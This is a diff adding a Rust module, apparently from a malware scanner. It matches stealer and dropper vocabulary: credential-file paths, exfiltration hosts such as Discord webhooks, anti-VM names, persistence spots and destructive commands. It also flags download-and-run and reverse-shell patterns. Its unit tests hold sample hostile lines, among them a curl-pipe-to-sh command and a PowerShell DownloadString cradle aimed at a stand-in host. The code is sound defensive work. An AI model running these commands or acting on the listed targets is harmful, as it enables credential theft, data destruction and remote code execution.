@@ -1,0 +1,597 @@
+//! Language-independent text signals: the names, paths and hosts that droppers, stealers
+//! and beacons carry, found with one multi-pattern pass (Aho-Corasick, ASCII
+//! case-insensitive) over a file or a decoded payload. Most of these are supporting
+//! evidence; `score.rs` decides what they weigh alone and together.
+
+use std::collections::BTreeSet;
+use std::sync::OnceLock;
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+
+use super::signal::{Reach, Signal, SignalKind};
+
+/// The pattern groups, each with the signal it gives and how many distinct members must
+/// appear before it counts (one VM tool name is a coincidence, five are a blacklist).
+struct Group {
+    kind: SignalKind,
+    min_distinct: usize,
+    what: &'static str,
+    patterns: &'static [&'static str],
+}
+
+const GROUPS: &[Group] = &[
+    Group {
+        kind: SignalKind::CredentialStore,
+        min_distinct: 2,
+        what: "credential stores",
+        patterns: &[
+            "login data",
+            "local state",
+            "\\network\\cookies",
+            "cookies.sqlite",
+            "logins.json",
+            "key4.db",
+            "local storage\\leveldb",
+            "local storage/leveldb",
+            "discordcanary",
+            "discordptb",
+            "wallet.dat",
+            "\\exodus",
+            "exodus.wallet",
+            "electrum\\wallets",
+            "electrum/wallets",
+            "metamask",
+            "nkbihfbeogaeaoehlefnkodbefgpgknn",
+            "cryptunprotectdata",
+            ".ssh/id_rsa",
+            ".ssh/id_ed25519",
+            ".aws/credentials",
+            ".git-credentials",
+            ".docker/config.json",
+            "/etc/shadow",
+            "telegram desktop",
+            "\\tdata",
+            "filezilla\\recentservers",
+            "roblosecurity",
+            "web data",
+            "user data\\default",
+            "\\google\\chrome\\user data",
+            "brave-browser",
+            "\\opera software\\",
+            "yandexbrowser",
+            "discord_token",
+            "token_grab",
+            "tokens.txt",
+            "passwords.txt",
+            "cookies.txt",
+            "\\mozilla\\firefox\\profiles",
+            "keychain-db",
+            "login.keychain",
+            "solana/id.json",
+            "coinbase wallet",
+            "ethereum\\keystore",
+            "bitcoin\\wallets",
+        ],
+    },
+    Group {
+        kind: SignalKind::ExfilEndpoint,
+        min_distinct: 1,
+        what: "exfiltration endpoints",
+        patterns: &[
+            "discord.com/api/webhooks",
+            "discordapp.com/api/webhooks",
+            "api.telegram.org/bot",
+            "pastebin.com",
+            "hastebin",
+            "paste.ee",
+            "ngrok.io",
+            "ngrok-free.app",
+            "ngrok.app",
+            "trycloudflare.com",
+            "webhook.site",
+            "requestbin",
+            "pipedream.net",
+            "interact.sh",
+            "oast.fun",
+            "oast.me",
+            "oast.pro",
+            "oast.live",
+            "oast.site",
+            "oastify.com",
+            "burpcollaborator",
+            "canarytokens",
+            "transfer.sh",
+            "anonfiles",
+            "gofile.io",
+            "ipify.org",
+            "ipinfo.io",
+            "ifconfig.me",
+            "icanhazip",
+            "ip-api.com",
+            "checkip.amazonaws",
+            "dnslog.cn",
+            "ceye.io",
+            "beeceptor",
+            "serveo.net",
+            "loca.lt",
+            "000webhostapp",
+            "discord.gg/",
+            "bit.ly/",
+            "cutt.ly",
+            "tinyurl.com",
+            "rentry.co",
+            "paste.c-net",
+            "termbin",
+            "dpaste",
+        ],
+    },
+    Group {
+        kind: SignalKind::AntiAnalysis,
+        min_distinct: 3,
+        what: "debugger, sandbox and VM names",
+        patterns: &[
+            "vboxservice",
+            "vboxtray",
+            "vmtoolsd",
+            "vmwaretray",
+            "vmwareuser",
+            "wireshark",
+            "fiddler",
+            "httpdebugger",
+            "ollydbg",
+            "x64dbg",
+            "x32dbg",
+            "ida64",
+            "processhacker",
+            "joeboxserver",
+            "joeboxcontrol",
+            "sandboxie",
+            "isdebuggerpresent",
+            "checkremotedebuggerpresent",
+            "pestudio",
+            "prl_tools",
+            "qemu-ga",
+            "vmsrvc",
+            "vmusrvc",
+            "ksdumper",
+            "vgauthservice",
+            "xenservice",
+            "df5serv",
+        ],
+    },
+    Group {
+        kind: SignalKind::Persistence,
+        min_distinct: 1,
+        what: "autostart locations",
+        patterns: &[
+            "currentversion\\run",
+            "currentversion\\\\run",
+            "start menu\\programs\\startup",
+            "start menu\\\\programs\\\\startup",
+            "\\startup\\",
+            "launchagents/",
+            "schtasks",
+            "/etc/rc.local",
+            ".config/autostart",
+            "/etc/cron",
+            "crontab -",
+            ".git/hooks/",
+            "/etc/systemd/system/",
+            "/.bashrc",
+            "/.zshrc",
+            "/.bash_profile",
+        ],
+    },
+    Group {
+        kind: SignalKind::Surveillance,
+        min_distinct: 1,
+        what: "keystroke, clipboard or screen capture",
+        patterns: &[
+            "getasynckeystate",
+            "setwindowshookex",
+            "imagegrab.grab",
+            "pyautogui.screenshot",
+            "getclipboarddata",
+            "clipboard_get",
+            "pynput.keyboard",
+            "keyboard.on_press",
+            "pyperclip.paste",
+            "screenshot()",
+            "desktopcapture",
+        ],
+    },
+    Group {
+        kind: SignalKind::HiddenExec,
+        min_distinct: 1,
+        what: "hidden process start",
+        patterns: &[
+            "create_no_window",
+            "0x08000000",
+            "windowstyle hidden",
+            "-windowstyle h",
+            "-w hidden",
+            "detached_process",
+            "sw_hide",
+            "start /min",
+            "> /dev/null 2>&1 &",
+        ],
+    },
+    Group {
+        kind: SignalKind::Shellcode,
+        min_distinct: 2,
+        what: "executable-memory calls",
+        patterns: &[
+            "virtualalloc",
+            "createthread",
+            "rtlmovememory",
+            "virtualprotect",
+            "writeprocessmemory",
+            "createremotethread",
+            "mmap.prot_exec",
+            "prot_exec",
+        ],
+    },
+    Group {
+        kind: SignalKind::Destructive,
+        min_distinct: 1,
+        what: "destructive commands",
+        patterns: &[
+            "rm -rf /\"",
+            "rm -rf /'",
+            "rm -rf /*",
+            "rm -rf ~",
+            "rm -rf $home",
+            "shutdown /s",
+            "shutdown -h now",
+            "\"poweroff\"",
+            "'poweroff'",
+            "format c:",
+            "del /f /s /q c:",
+            "rd /s /q c:",
+            "mkfs.",
+            "dd if=/dev/zero of=/dev/sd",
+            ":(){ :|:& };:",
+            "vssadmin delete shadows",
+        ],
+    },
+    Group {
+        kind: SignalKind::Obfuscator,
+        min_distinct: 1,
+        what: "obfuscator markers",
+        patterns: &[
+            "pyarmor",
+            "pytransform",
+            "__pyarmor__",
+            "__obfuscator__",
+            "obfuscated by",
+            "obfuscated with",
+            "blankobf",
+            "hyperion",
+            "pyobfuscate",
+            "jsfuck",
+        ],
+    },
+];
+
+struct Compiled {
+    matcher: AhoCorasick,
+    /// For each pattern index: (group index, member index within the group).
+    owner: Vec<(usize, usize)>,
+}
+
+fn compiled() -> &'static Compiled {
+    static COMPILED: OnceLock<Compiled> = OnceLock::new();
+    COMPILED.get_or_init(|| {
+        let mut patterns = Vec::new();
+        let mut owner = Vec::new();
+        for (g, group) in GROUPS.iter().enumerate() {
+            for (m, pattern) in group.patterns.iter().enumerate() {
+                patterns.push(*pattern);
+                owner.push((g, m));
+            }
+        }
+        let matcher = AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .build(&patterns)
+            // The patterns are this file's constants, a few hundred short strings: building
+            // cannot fail on them, and the unit tests run this on every build.
+            .expect("the constant text patterns build");
+        Compiled { matcher, owner }
+    })
+}
+
+/// The 1-based line of a byte offset.
+pub(crate) fn line_at(text: &str, offset: usize) -> u32 {
+    let before = text.get(..offset).unwrap_or(text);
+    let newlines = before.bytes().filter(|&b| b == b'\n').count();
+    u32::try_from(newlines + 1).unwrap_or(u32::MAX)
+}
+
+/// The text signals of `text`: one per group that reached its threshold, at the line of
+/// its first match, naming the members seen.
+pub(crate) fn scan(text: &str, reach: Reach) -> Vec<Signal> {
+    let compiled = compiled();
+    let mut seen: Vec<BTreeSet<usize>> = vec![BTreeSet::new(); GROUPS.len()];
+    let mut first: Vec<Option<usize>> = vec![None; GROUPS.len()];
+    for found in compiled.matcher.find_overlapping_iter(text) {
+        let Some(&(group, member)) = compiled.owner.get(found.pattern().as_usize()) else {
+            continue;
+        };
+        if let (Some(set), Some(slot)) = (seen.get_mut(group), first.get_mut(group)) {
+            set.insert(member);
+            slot.get_or_insert(found.start());
+        }
+    }
+    let mut signals = Vec::new();
+    for (g, group) in GROUPS.iter().enumerate() {
+        let (Some(members), Some(Some(at))) = (seen.get(g), first.get(g)) else {
+            continue;
+        };
+        if members.len() < group.min_distinct {
+            continue;
+        }
+        let names: Vec<&str> = members
+            .iter()
+            .take(4)
+            .filter_map(|&m| group.patterns.get(m).copied())
+            .collect();
+        let more = members.len().saturating_sub(names.len());
+        let suffix = if more > 0 {
+            format!(" and {more} more")
+        } else {
+            String::new()
+        };
+        signals.push(Signal::new(
+            group.kind,
+            line_at(text, *at),
+            reach,
+            format!("{}: {}{suffix}", group.what, names.join(", ")),
+        ));
+    }
+    signals.extend(download_and_run(text, reach));
+    signals.extend(reverse_shell(text, reach));
+    signals.extend(raw_ip_urls(text, reach));
+    signals.extend(executable_urls(text, reach));
+    signals
+}
+
+/// A line that downloads and runs what it got: `curl ... | sh`, PowerShell download
+/// cradles (`DownloadString` + `IEX`), `certutil -urlcache`, `bitsadmin /transfer`,
+/// `mshta http...`, a download followed by `chmod +x`.
+fn download_and_run(text: &str, reach: Reach) -> Option<Signal> {
+    const FETCH: &[&str] = &[
+        "curl ",
+        "wget ",
+        "invoke-webrequest",
+        "iwr ",
+        "downloadstring",
+        "downloadfile",
+        "certutil",
+        "bitsadmin",
+        "net.webclient",
+        "urlretrieve",
+    ];
+    const RUN: &[&str] = &[
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "| python",
+        "|python",
+        "iex",
+        "invoke-expression",
+        "start-process",
+        "-urlcache",
+        "/transfer",
+        "chmod +x",
+        "chmod 777",
+        "start-sleep",
+    ];
+    for (index, line) in text.lines().enumerate() {
+        // Long lines are data (keyword lists of lexers, minified bundles).
+        if line.len() > 400 {
+            continue;
+        }
+        let lower = line.to_ascii_lowercase();
+        let fetch = FETCH.iter().find_map(|f| lower.find(*f).map(|at| (f, at)));
+        // The run comes after the fetch, and something is fetched from somewhere.
+        let run = fetch.and_then(|(_, at)| {
+            RUN.iter()
+                .find(|r| lower.get(at..).is_some_and(|rest| rest.contains(*r)))
+        });
+        let fetch = fetch
+            .filter(|_| {
+                lower.contains("://") || lower.contains("$") || lower.contains("downloadstring")
+            })
+            .map(|(f, _)| f);
+        let powershell_cradle = [
+            "downloadstring",
+            "downloadfile",
+            "invoke-webrequest",
+            "iwr ",
+        ]
+        .iter()
+        .any(|f| lower.contains(f))
+            && ["iex", "invoke-expression", "start-process"]
+                .iter()
+                .any(|r| lower.contains(r));
+        let cradle = powershell_cradle
+            || lower.contains("mshta http")
+            || lower.contains("regsvr32 /s /n /u /i:http");
+        if let (Some(fetch), Some(run)) = (fetch, run) {
+            return Some(Signal::new(
+                SignalKind::DownloadRun,
+                u32::try_from(index + 1).unwrap_or(u32::MAX),
+                reach,
+                format!(
+                    "downloads (`{}`) and runs (`{}`): `{}`",
+                    fetch.trim(),
+                    run.trim(),
+                    crate::shorten(line.trim(), 100)
+                ),
+            ));
+        }
+        if cradle {
+            return Some(Signal::new(
+                SignalKind::DownloadRun,
+                u32::try_from(index + 1).unwrap_or(u32::MAX),
+                reach,
+                format!(
+                    "runs a remote script: `{}`",
+                    crate::shorten(line.trim(), 100)
+                ),
+            ));
+        }
+    }
+    None
+}
+
+/// A reverse shell: a socket connected out whose other end drives a shell (the socket's
+/// descriptors duplicated onto the shell's, or its input fed from `recv`).
+fn reverse_shell(text: &str, reach: Reach) -> Option<Signal> {
+    let connects = text.contains("socket") && text.contains(".connect(");
+    let wired = text.contains("dup2(") || (text.contains("recv(") && text.contains("stdin"));
+    let shell = [
+        "pty.spawn",
+        "/bin/sh",
+        "/bin/bash",
+        "cmd.exe",
+        "\"cmd\"",
+        "'cmd'",
+        "powershell",
+    ]
+    .iter()
+    .find(|s| text.contains(*s))?;
+    if !(connects && wired) {
+        return None;
+    }
+    let at = text.find(".connect(").unwrap_or(0);
+    Some(Signal::new(
+        SignalKind::ReverseShell,
+        line_at(text, at),
+        reach,
+        format!(
+            "a socket connected out drives `{}`",
+            shell.trim_matches(|c| c == '"' || c == '\'')
+        ),
+    ))
+}
+
+/// `http://1.2.3.4...`: a server without a name is what a throw-away C2 looks like.
+fn raw_ip_urls(text: &str, reach: Reach) -> Option<Signal> {
+    for scheme in ["http://", "https://", "tcp://"] {
+        let mut rest = text;
+        let mut offset = 0;
+        while let Some(at) = rest.find(scheme) {
+            let host_start = at + scheme.len();
+            let host: String = rest
+                .get(host_start..)
+                .unwrap_or("")
+                .chars()
+                .take_while(|c| c.is_ascii_digit() || *c == '.')
+                .collect();
+            let parts: Vec<&str> = host.split('.').collect();
+            let is_ip = parts.len() == 4
+                && parts
+                    .iter()
+                    .all(|p| !p.is_empty() && p.parse::<u8>().is_ok())
+                && !host.starts_with("127.")
+                && !host.starts_with("0.")
+                && !host.starts_with("10.")
+                && !host.starts_with("192.168.");
+            if is_ip {
+                return Some(Signal::new(
+                    SignalKind::ExfilEndpoint,
+                    line_at(text, offset + at),
+                    reach,
+                    format!("a raw IP address as a server: {scheme}{host}"),
+                ));
+            }
+            offset += host_start;
+            rest = rest.get(host_start..).unwrap_or("");
+        }
+    }
+    None
+}
+
+/// A URL of a Windows executable or script (`.exe`, `.scr`, `.vbs`, `.ps1`, `.bat`).
+fn executable_urls(text: &str, reach: Reach) -> Option<Signal> {
+    let lower = text.to_ascii_lowercase();
+    let mut offset = 0;
+    while let Some(at) = lower.get(offset..).and_then(|r| r.find("http")) {
+        let start = offset + at;
+        let url: &str = lower
+            .get(start..)
+            .unwrap_or("")
+            .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ')' | '<' | '>'))
+            .next()
+            .unwrap_or("");
+        if [
+            ".exe", ".scr", ".vbs", ".ps1", ".bat", ".msi", ".hta", ".dll", ".jar",
+        ]
+        .iter()
+        .any(|ext| url.ends_with(ext) || url.contains(&format!("{ext}?")))
+        {
+            return Some(Signal::new(
+                SignalKind::ExecutableDrop,
+                line_at(text, start),
+                reach,
+                format!("an executable fetched from {}", crate::shorten(url, 100)),
+            ));
+        }
+        offset = start + 4;
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kinds(text: &str) -> Vec<SignalKind> {
+        scan(text, Reach::Always)
+            .into_iter()
+            .map(|s| s.kind)
+            .collect()
+    }
+
+    #[test]
+    fn stealer_vocabulary_is_found() {
+        let found = kinds(
+            "p = LOCAL + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\nq = 'Login Data'\n\
+             requests.post('https://discord.com/api/webhooks/1/x')\n",
+        );
+        assert!(found.contains(&SignalKind::CredentialStore));
+        assert!(found.contains(&SignalKind::ExfilEndpoint));
+    }
+
+    #[test]
+    fn thresholds_keep_single_mentions_out() {
+        assert!(kinds("# works with wireshark captures").is_empty());
+        assert!(kinds("x = 'Login Data'").is_empty());
+        assert_eq!(
+            kinds("u = 'http://45.12.3.4:8080/a'"),
+            [SignalKind::ExfilEndpoint]
+        );
+        assert!(kinds("u = 'http://127.0.0.1:8080/a'").is_empty());
+        assert!(
+            kinds("if a() || should_prefer() { b() }").is_empty(),
+            "`|| sh` is not a pipe"
+        );
+        assert_eq!(
+            kinds("os.system('curl -s http://x.example/i | sh')"),
+            [SignalKind::DownloadRun]
+        );
+        assert_eq!(
+            kinds(
+                "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\""
+            ),
+            [SignalKind::DownloadRun]
+        );
+        assert_eq!(
+            kinds("get('https://x.example/payload.exe')"),
+            [SignalKind::ExecutableDrop]
+        );
+    }
+}
